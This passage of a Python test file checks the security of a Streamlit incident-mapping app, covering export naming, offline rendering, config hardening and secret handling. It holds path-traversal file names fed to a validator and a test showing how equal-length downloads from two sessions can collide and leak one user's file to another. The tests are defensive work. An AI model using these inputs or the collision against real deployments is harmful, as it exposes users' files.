        ["ExportError", ".gpkg"],
        ["ExportError", ".csv"],
    ]
    assert "File too large" in done.stdout or "too large" in done.stdout.lower()
    assert list(dest.parent.iterdir()) == []


def test_x04_gpkg_and_csv_round_trip(tmp_path):
    from geo.export.tabular import write_table_atomic

    source = read((FIX / "news_small.csv").read_bytes(), "news.csv").incidents
    back = pyogrio.read_dataframe(write_table_atomic(source, tmp_path / "n.gpkg"))
    assert back.crs == source.crs and len(back) == len(source)
    assert list(back.columns) == list(source.columns)
    assert back.geometry.to_wkb().tolist() == source.geometry.to_wkb().tolist()
    for c in ("event_id", "notes", "location", "fatalities", "precise"):
        assert back[c].tolist() == source[c].tolist()
    assert (back["event_date"].dt.date == source["event_date"].dt.date).all()
    csv_back = pd.read_csv(write_table_atomic(source, tmp_path / "n.csv"), encoding="utf-8-sig")
    assert csv_back["event_id"].tolist() == source["event_id"].tolist()
    assert np.allclose(csv_back["longitude"], source.geometry.x)


def test_x05_empty_selection_exports_a_valid_file_with_its_schema(tmp_path):
    from geo.export.tabular import write_table_atomic
    from geo.schema import CANONICAL_COLUMNS, empty_incidents

    back = pyogrio.read_dataframe(write_table_atomic(empty_incidents(), tmp_path / "e.gpkg"))
    assert back.empty and list(back.columns) == list(CANONICAL_COLUMNS)


def test_x06_same_length_exports_of_two_sessions_get_their_own_bytes():
    from streamlit.runtime.media_file_storage import MediaFileKind
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    from geo.export.atomic import safe_export_name

    quarter = 2**19  # the media id samples only the head, middle and tail (64 KiB each)
    a = b"A" * quarter + b"session A private" + b"A" * 3 * quarter
    b = b"A" * quarter + b"session B private" + b"A" * 3 * quarter
    storage = MemoryMediaFileStorage("/media")
    kind = MediaFileKind.DOWNLOADABLE
    id_a = storage.load_and_get_id(a, "text/csv", kind, "incidents.csv")
    id_b = storage.load_and_get_id(b, "text/csv", kind, "incidents.csv")
    assert id_a == id_b and storage.get_file(id_b).content == a  # B would download A's file
    storage = MemoryMediaFileStorage("/media")
    name_a, name_b = (safe_export_name("tables", "csv") for _ in range(2))
    id_a = storage.load_and_get_id(a, "text/csv", kind, name_a)
    id_b = storage.load_and_get_id(b, "text/csv", kind, name_b)
    assert storage.get_file(id_b).content == b and storage.get_file(id_a).content == a


def test_x06_every_download_button_names_its_file_with_safe_export_name():
    import ast

    calls = [
        node
        for path in _ui_files()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and ast.unparse(node.func).endswith("download_button")
    ]
    assert calls, "no download button found"
    for call in calls:
        (file_name,) = [k.value for k in call.keywords if k.arg == "file_name"]
        assert isinstance(file_name, ast.Call) and ast.unparse(file_name.func) == "safe_export_name"


def test_x07_png_map_needs_no_network(payload_analysis, tmp_path, monkeypatch):
    from geo.export.png import export_png

    def refuse(*args: object, **kwargs: object) -> None:
        raise OSError("network disabled by the test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    path = export_png(payload_analysis, tmp_path / "map.png", width_px=1600)
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_x08_export_names_are_generated_sanitised_and_unique():
    from geo.export.atomic import safe_export_name

    names = {safe_export_name("brief", "pdf", when=(TODAY, TODAY)) for _ in range(200)}
    assert len(names) == 200
    assert all(n.startswith("sahel-risk-brief_2026-01-01_2026-01-01_") for n in names)
    for kind, suffix in (("../etc", "pdf"), ("brief", "exe"), ("brief", "pdf/../x")):
        with pytest.raises(ParameterError):
            safe_export_name(kind, suffix)


def test_x09_provenance_in_gpkg_csv_and_html(payload_analysis, tmp_path):
    from geo.export.html import export_html
    from geo.export.tabular import export_csv_tables
    from geo.export.vector import export_gpkg
    from geo.provenance import build_provenance

    prov = build_provenance(payload_analysis)
    assert prov["validation"]["rows_in"] == 3 if "validation" in prov else prov
    gpkg = export_gpkg(payload_analysis, tmp_path / "l.gpkg")
    assert "provenance" in [name for name, _ in pyogrio.list_layers(gpkg)]
    with zipfile.ZipFile(export_csv_tables(payload_analysis, tmp_path / "t.zip")) as zf:
        assert any("provenance" in n for n in zf.namelist())
    page = "<html><head></head><body>map</body></html>"
    html_path = export_html(page, tmp_path / "m.html", provenance=prov)
    assert 'name="sahel-risk-map-provenance"' in html_path.read_text(encoding="utf-8")


# --------------------------------------------------------------------------- K: sessions, config


def _config() -> dict:
    import tomllib

    return tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))


def test_k04_k08_browser_facing_settings():
    from streamlit import config

    defaults = config._config_options_template
    assert defaults["client.showErrorDetails"].default_val == "full"  # the stack's default
    cfg = _config()
    assert cfg["server"]["enableCORS"] is True
    assert cfg["server"]["enableXsrfProtection"] is True
    assert cfg["server"]["address"] == "127.0.0.1"
    assert cfg["client"]["showErrorDetails"] == "none"
    assert cfg["browser"]["gatherUsageStats"] is False
    assert cfg["server"].get("enableAgentApi", False) is False
    static = REPO / "static"
    assert not any(p.suffix in (".toml", ".csv", ".gpkg", ".geojson") for p in static.rglob("*"))


def test_k05_allowed_hosts_set():
    assert _config()["server"].get("allowedHosts")


def test_k03_no_module_global_mutation_in_app_ui_layers():
    import ast

    problems = []
    for path in [*_ui_files(), *sorted((REPO / "layers").glob("*.py"))]:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        mutable = {
            t.id
            for node in tree.body
            if isinstance(node, ast.Assign | ast.AnnAssign)
            and isinstance(node.value, ast.List | ast.Dict | ast.Set | ast.Call)
            and not (isinstance(node.value, ast.Call) and "frozen" in ast.unparse(node.value.func))
            for t in (node.targets if isinstance(node, ast.Assign) else [node.target])
            if isinstance(t, ast.Name)
        }
        for fn in (n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)):
            for node in ast.walk(fn):
                if isinstance(node, ast.Global | ast.Nonlocal):
                    problems.append(f"{path.name}:{node.lineno} {type(node).__name__}")
                target = None
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                    if node.func.attr in {"append", "extend", "update", "add", "pop", "clear",
                                          "setdefault", "insert", "remove", "discard"}:  # fmt: skip
                        target = node.func.value
                elif isinstance(node, ast.Assign | ast.AugAssign):
                    targets = node.targets if isinstance(node, ast.Assign) else [node.target]
                    target = next((t.value for t in targets if isinstance(t, ast.Subscript)), None)
                if isinstance(target, ast.Name) and target.id in mutable:
                    local = {a.arg for a in fn.args.args + fn.args.kwonlyargs}
                    assigned = {
                        t.id
                        for n in ast.walk(fn)
                        if isinstance(n, ast.Assign)
                        for t in n.targets
                        if isinstance(t, ast.Name)
                    }
                    if target.id not in local | assigned:
                        problems.append(f"{path.name}:{node.lineno} mutates global {target.id}")
        if "cache_resource" in path.read_text(encoding="utf-8"):
            problems.append(f"{path.name}: st.cache_resource (a shared mutable object)")
    assert problems == []


def test_k10_secrets_not_in_git_not_served_not_logged():
    assert ".streamlit/secrets.toml" in (REPO / ".gitignore").read_text().splitlines()
    tracked = subprocess.run(
        ["git", "ls-files"], cwd=REPO, capture_output=True, text=True, check=True
    ).stdout.split()
    assert not [p for p in tracked if p.endswith("secrets.toml")]
    access = (REPO / "ui" / "access.py").read_text(encoding="utf-8")
    for line in access.splitlines():
        if "log." in line:
            assert "password)" not in line and "digest)" not in line


# K07 (/media served without a cookie) is a deployment matter: see docs/SECURITY-CASES.md.
# K09 (50 sessions connect and leave) is benchmarks/load_sessions.py; K11 (offline request
# log) is tests/test_browser.py and tests/test_security_browser.py.


# --------------------------------------------------------------------------- the one way in


# Every user file goes through the worker: tests/test_io_layers.py (by behaviour).


def test_k06_app_calls_the_access_gate_before_any_data():
    import ast

    tree = ast.parse((REPO / "app.py").read_text(encoding="utf-8"))
    calls = [ast.unparse(n.func) for n in ast.walk(tree) if isinstance(n, ast.Call)]
    gate = next(i for i, name in enumerate(calls) if name.endswith("require_access"))
    data = [i for i, name in enumerate(calls) if name.startswith(("data.", "state."))]
    assert gate < min(data)
